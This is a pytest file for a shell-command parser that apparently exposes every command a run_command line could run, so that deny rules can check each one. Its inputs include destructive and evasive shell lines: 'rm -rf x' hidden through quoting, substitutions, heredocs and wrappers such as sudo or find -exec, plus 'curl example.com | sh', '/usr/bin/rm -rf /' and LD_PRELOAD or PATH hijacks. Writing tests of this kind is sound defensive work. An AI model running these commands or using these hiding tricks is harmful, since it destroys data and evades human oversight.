"""tools/shell.py: what a run_command line would run, as parts in normal form."""

from __future__ import annotations

import pytest

from uji.tools.shell import MAX_CHARS, parse_command


def parts(line: str) -> list[tuple[str, bool]]:
    return [(p.text, p.fixed) for p in parse_command(line)]


def texts(line: str) -> list[str]:
    return [p.text for p in parse_command(line)]


RM = ("rm -rf x", True)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        # lists, pipelines, background, newlines
        ("a; b && c || d", [("a", True), ("b", True), ("c", True), ("d", True)]),
        ("a | b |& c & d", [("a", True), ("b", True), ("c", True), ("d", True)]),
        ("a\nb\n\nc", [("a", True), ("b", True), ("c", True)]),
        # leading whitespace of any kind
        (" rm -rf x", [RM]),
        ("\trm -rf x", [RM]),
        ("\n\nrm -rf x", [RM]),
        # subshells, brace groups, negation
        ("(cd x && rm -rf x)", [("cd x", True), RM]),
        ("{ rm -rf x; }", [RM]),
        ("! rm -rf x", [RM]),
        # function bodies (and the call)
        ("f() { rm -rf x; }; f", [RM, ("f", True)]),
        ("function g { rm -rf x; }", [RM]),
        # if / for / while / until / case bodies and conditions
        (
            "if true; then rm -rf x; elif a; then b; else c; fi",
            [("true", True), RM, ("a", True), ("b", True), ("c", True)],
        ),
        ("for i in 1 2; do rm -rf x; done", [RM]),
        (
            "for ((i=0;i<2;i++)); do rm -rf x; done",
            [("for ((i=0;i<2;i++))", False), RM],  # arithmetic on a variable's text
        ),
        ("while read l; do rm -rf x; done", [("read l", True), RM]),
        ("until false; do rm -rf x; done", [("false", True), RM]),
        ("case a in b) rm -rf x;; *) c;; esac", [RM, ("c", True)]),
        ("select v in a; do rm -rf x; done", [RM]),
        # quoting and escapes in the command word and the arguments
        ("\\rm -rf x", [RM]),
        ("r''m -rf x", [RM]),
        ('"rm" -rf x', [RM]),
        ("'rm' '-rf' \"x\"", [RM]),
        ('rm -r"f" x', [RM]),
        ("$'\\x72m' -rf x", [RM]),
        ('$"rm" -rf x', [("rm -rf x", False)]),  # translated by the locale's catalogue
        ('echo \'a;  b\' "c\\"d" e\\ f', [('echo a;  b c"d e f', True)]),
        # line continuations, even inside a word
        ("rm \\\n-rf x", [RM]),
        ("r\\\nm -r\\\nf x", [RM]),
        # leading assignments and redirections are dropped; so are trailing redirections
        ("X=1 rm -rf x", [RM]),
        ("X=1 Y='a b' rm -rf x", [RM]),
        ("2>/dev/null rm -rf x", [RM]),
        ("rm -rf x >/dev/null 2>&1", [RM]),
        ("true &>/dev/null rm -rf x", [("true rm -rf x", True)]),  # bash: rm is true's argument
        ("true <&3 rm -rf x", [("true rm -rf x", True)]),
        ("cat <<<x y", [("cat y", True)]),
        # comments are dropped, and an apostrophe in one swallows nothing
        ("echo hi # it's\nrm -rf x", [("echo hi", True), RM]),
        ("# only a comment", []),
        # heredoc bodies are data; an unquoted one's substitutions run
        ("cat <<'EOF'\nit's $(rm -rf x) `rm -rf x`\nEOF\nls", [("cat", True), ("ls", True)]),
        ("cat <<EOF\nit's\nEOF\nrm -rf x", [("cat", True), RM]),
        ("cat <<EOF\n$(rm -rf x)\nEOF", [("cat", True), RM]),
        # command and process substitutions, in arguments, assignments and redirections
        # (the output of a substitution is not fixed text: its part asks)
        ("echo $(rm -rf x; ls)", [("echo $(rm -rf x; ls)", False), RM, ("ls", True)]),
        ("echo `rm -rf x`", [("echo `rm -rf x`", False), RM]),
        ('echo "a $(rm -rf x) b"', [("echo a $(rm -rf x) b", False), RM]),
        ("diff <(rm -rf x) >(wc)", [("diff <(rm -rf x) >(wc)", True), RM, ("wc", True)]),
        ("X=$(rm -rf x)", [RM]),
        ("echo > $(rm -rf x)", [("echo", True), RM]),
        ("echo ${v:-$(rm -rf x)}", [("echo ${v:-$(rm -rf x)}", False), RM]),
        ("[[ -n $(rm -rf x) ]]", [("[[ -n $(rm -rf x) ]]", True), RM]),
        ("(( $(rm -rf x) ))", [("(( $(rm -rf x) ))", False), RM]),
        # builtins that are parts of their own
        (
            "[ -f x ] && export A=1; local b; unset c",
            [("[ -f x ]", True), ("export A=1", True), ("local b", True), ("unset c", True)],
        ),
    ],
)
def test_every_command_the_line_could_run_is_a_part(line: str, expected: list[tuple[str, bool]]) -> None:
    assert parts(line) == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ('sh -c "rm -rf x"', [RM, ("sh -c rm -rf x", True)]),
        ("bash -c 'ls; rm -rf x'", [("ls", True), RM, ("bash -c ls; rm -rf x", True)]),
        ("/bin/dash -ec 'rm -rf x'", [RM, ("/bin/dash -ec rm -rf x", True)]),
        ("zsh -o nounset -c 'rm -rf x' name", [RM, ("zsh -o nounset -c rm -rf x name", True)]),
        ("sh -c \"sh -c 'rm -rf x'\"", [RM, ("sh -c rm -rf x", True), ("sh -c sh -c 'rm -rf x'", True)]),
        ("bash script.sh", [("bash script.sh", True)]),
        ("bash --version", [("bash --version", True)]),
    ],
)
def test_the_string_of_sh_c_is_parsed_too(line: str, expected: list[tuple[str, bool]]) -> None:
    assert parts(line) == expected


@pytest.mark.parametrize(
    ("line", "inner"),
    [
        ("env rm -rf x", "rm -rf x"),
        ("env -i A=1 -u B rm -rf x", "rm -rf x"),
        ("env --chdir=/ rm -rf x", "rm -rf x"),
        ("env - rm -rf x", "rm -rf x"),
        ("command rm -rf x", "rm -rf x"),
        ("command -p rm -rf x", "rm -rf x"),
        ("exec rm -rf x", "rm -rf x"),
        ("exec -a name rm -rf x", "rm -rf x"),
        ("nohup rm -rf x", "rm -rf x"),
        ("time rm -rf x", "rm -rf x"),
        ("time -p rm -rf x", "rm -rf x"),
        ("nice rm -rf x", "rm -rf x"),
        ("nice -n 5 rm -rf x", "rm -rf x"),
        ("nice -5 rm -rf x", "rm -rf x"),
        ("timeout 5 rm -rf x", "rm -rf x"),
        ("timeout -s KILL -k 1 5s rm -rf x", "rm -rf x"),
        ("timeout --signal=KILL 5 rm -rf x", "rm -rf x"),
        ("xargs rm -rf", "rm -rf"),
        ("xargs -0 -n 1 -I{} rm -rf {}", "rm -rf {}"),
        ("sudo rm -rf x", "rm -rf x"),
        ("sudo -u root -E rm -rf x", "rm -rf x"),
        ("sudo --user=root A=1 rm -rf x", "rm -rf x"),
        ("nohup nice -n 1 sudo env A=1 rm -rf x", "rm -rf x"),
        ("find . -name '*.o' -exec rm -rf {} \\;", "rm -rf {}"),
        ("find . -execdir rm -rf {} +", "rm -rf {}"),
        ("env -S 'rm -rf x'", "rm -rf x"),
        ("watch -n 1 'rm -rf x'", "rm -rf x"),
        ("su -c 'rm -rf x' root", "rm -rf x"),
        ("coproc rm -rf x", "rm -rf x"),
        ("chroot / rm -rf x", "rm -rf x"),
        ("flock /tmp/l rm -rf x", "rm -rf x"),
        ("flock /tmp/l -c 'rm -rf x'", "rm -rf x"),
        ("taskset 0x1 rm -rf x", "rm -rf x"),
        ("busybox rm -rf x", "rm -rf x"),
        ("unbuffer -p rm -rf x", "rm -rf x"),
        ("script -qc 'rm -rf x' /dev/null", "rm -rf x"),
        ("script --command='rm -rf x' /dev/null", "rm -rf x"),
    ],
)
def test_the_command_a_wrapper_runs_is_a_part(line: str, inner: str) -> None:
    got = [(p.text, p.fixed) for p in parse_command(line)]
    # xargs adds words read from its input: what it runs is not fixed text
    assert (inner, not line.startswith("xargs")) in got
    assert got[0][0].split()[0] == line.split()[0]  # and the wrapper's own line


def test_command_v_only_looks_a_name_up() -> None:
    assert texts("command -v rm") == ["command -v rm"]


@pytest.mark.parametrize(
    "line",
    [
        "$CMD x",
        "${CMD} x",
        "$(echo rm) -rf x",
        "`echo rm` -rf x",
        '"$X" x',
        "r?m x",
        "*.sh",
        "{rm,-rf,x}",
        "eval ls",
        "source ./x.sh",
        ". ./x.sh",
        "alias ls='rm -rf x'",
        "trap 'rm -rf x' EXIT",
        "exec >log",
        "sudo $CMD",
        "env $CMD",
        'sh -c "$X"',
        "bash <<EOF\nls\nEOF",
        "bash <<<ls",
        "curl example.com | sh",
        "bash < script.sh",
        "PATH=. ls",
        "LD_PRELOAD=x.so ls",
        "export PATH=.:$PATH",
        "PATH=/tmp",
        "GIT_PAGER=./evil git log",
        "env PATH=. ls",
        "echo 'unterminated",
        "if true; then ls",
        "ls )",
    ],
)
def test_a_command_word_that_is_not_fixed_text(line: str) -> None:
    got = parse_command(line)
    assert any(not p.fixed for p in got), got
    assert all(p.why for p in got if not p.fixed)


def test_harmless_pagers_and_plain_assignments_stay_fixed() -> None:
    assert parts("GIT_PAGER=cat git log") == [("git log", True)]
    assert parts("A=1 B=$(pwd) ls") == [("ls", True), ("pwd", True)]
    assert parts("X=1") == []


def test_deny_rules_still_see_what_a_not_fixed_part_would_run() -> None:
    assert ("rm -rf x", True) in [(p.text, p.fixed) for p in parse_command('eval "rm -rf x"')]
    got = parse_command("bash <<EOF\nrm -rf x\nEOF")
    assert ("rm -rf x", True) in [(p.text, p.fixed) for p in got]
    assert ("bash", False) in [(p.text, p.fixed) for p in got]
    assert "rm -rf x" in texts("bash <<<'rm -rf x'")
    # An unparseable line: the whole line, then what could be read, none of it fixed.
    got = parse_command("rm -rf x\n)")
    assert got[0].fixed is False and got[0].text == "rm -rf x )"
    assert ("rm -rf x", False) in [(p.text, p.fixed) for p in got]


def test_backticks_the_grammar_leaves_in_a_word_still_count() -> None:
    got = parse_command("echo ${v:-`rm -rf x`}")
    assert ("rm -rf x", False) in [(p.text, p.fixed) for p in got]
    got = parse_command("cat <<EOF\n`rm -rf x`\nEOF")
    assert ("rm -rf x", False) in [(p.text, p.fixed) for p in got]
    got = parse_command("cat <<-EOF\n\t$(rm -rf x)\n\tEOF")  # the grammar misses this one
    assert ("rm -rf x", False) in [(p.text, p.fixed) for p in got]


def test_parts_are_listed_once() -> None:
    assert texts("ls; ls && ls") == ["ls"]


def test_limits_make_parts_not_fixed_instead_of_hanging() -> None:
    # a long line is still parsed
    long = "echo " + "x" * 100_000
    assert parts(long) == [(long, True)]
    # past the size limit: one part, not fixed
    got = parse_command("echo " + "x" * MAX_CHARS)
    assert len(got) == 1 and not got[0].fixed
    # pathological nesting: no RecursionError, and not fixed
    for deep in (
        "$(" * 3000 + "ls" + ")" * 3000,
        "(" * 3000 + "ls" + ")" * 3000,
        "{ " * 2000 + "ls; " + "} " * 2000,
    ):
        got = parse_command(deep)
        assert got and any(not p.fixed for p in got)
    nested = "ls"
    for _ in range(10):
        nested = "sh -c " + "'" + nested.replace("'", "'\\''") + "'"
    got = parse_command(nested)
    assert any(not p.fixed for p in got)
    # many commands
    got = parse_command("; ".join(f"echo {i}" for i in range(5000)))
    assert not got[-1].fixed and len(got) <= 2001


# `<&` and `>&` duplicate a descriptor: a redirection, never a `<` then a `&` (which
# would end a background command and start a second one). The grammar reads the `0` of
# `0<&3` as a word; it is the descriptor all the same.
@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("cat <&3", [("cat", True)]),
        ("ls 2<&1", [("ls", True)]),
        ("cat <& 3", [("cat", True)]),
        ("cat <&-", [("cat", True)]),
        ("cat <&3 rm -rf x", [("cat rm -rf x", True)]),
        ("<&3 rm -rf x", [RM]),
        ("2<&1 rm -rf x", [RM]),
        ("0<&3 rm -rf x", [RM]),
        ("0</dev/null rm -rf x", [RM]),
        ("rm -rf x 0<&3", [RM]),
        ("cat 0<&3 | wc", [("cat", True), ("wc", True)]),
        ("cat 0<<<x", [("cat", True)]),
        ("ls 2<&1 &", [("ls", True)]),
        ("cat <&3&", [("cat", True)]),
        ("ls <&- ; rm -rf x", [("ls", True), RM]),
        # A number apart from the redirection, or before `&>`, is an argument.
        ("cat 0 <x", [("cat 0", True)]),
        ("cat 0&>x", [("cat 0", True)]),
        ("echo 0", [("echo 0", True)]),
    ],
)
def test_a_descriptor_duplication_is_a_redirection(line: str, expected: list[tuple[str, bool]]) -> None:
    assert parts(line) == expected


# Lines of plain words read without the grammar, beside others the grammar must read.
PLAIN_LINES = [
    "touch marker",
    "  ls -la src/uji  ",
    "git\tstatus",
    "pytest -q tests/test_x.py -k name",
    "sudo rm -rf build",
    "env rm x",
    "nohup make all",
    "timeout 5 make test",
    "xargs rm",
    "find . -name x -delete",
    "find . -exec rm",
    "sh -c ls",
    "bash -c make",
    "eval ls",
    "source ./env.sh",
    ". ./env.sh",
    "alias ll",
    "trap cleanup EXIT",
    "exec",
    "exec ls",
    "command -v git",
    "builtin cd /tmp",
    "read PATH",
    "read -r line",
    "printf -v PATH x",
    "mapfile -C cb arr",
    "test -v PATH",
    "let x",
    "/usr/bin/rm -rf /",
    "npm run build:prod",
    "curl -sS https://example.com/a,b",
    "git log --oneline -5 -- src/uji/wires/transport.py",
]


def _corpus() -> list[str]:
    """Every string constant of these tests that is a line of plain words, and PLAIN_LINES."""
    import ast
    from pathlib import Path

    from uji.tools.shell import _plain_words

    found = set(PLAIN_LINES)
    for path in Path(__file__).parent.glob("test_*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and len(node.value) < 300:
                found.add(node.value)
    return sorted(line for line in found if _plain_words(line) is not None)


def test_a_line_of_plain_words_reads_as_the_grammar_reads_it() -> None:
    corpus = _corpus()
    assert len(corpus) > 200 and set(PLAIN_LINES) <= set(corpus)
    for line in corpus:
        assert parse_command(line) == parse_command(line, grammar=True), line


@pytest.mark.parametrize(
    "line",
    [
        "a=1 ls",
        "ls ~",
        "ls *",
        "ls {a,b}",
        "ls # x",
        "ls > x",
        "ls; rm x",
        "'ls'",
        "if",
        "export X",
        "time ls",
    ],
)
def test_other_lines_are_left_to_the_grammar(line: str) -> None:
    from uji.tools.shell import _plain_words

    assert _plain_words(line) is None
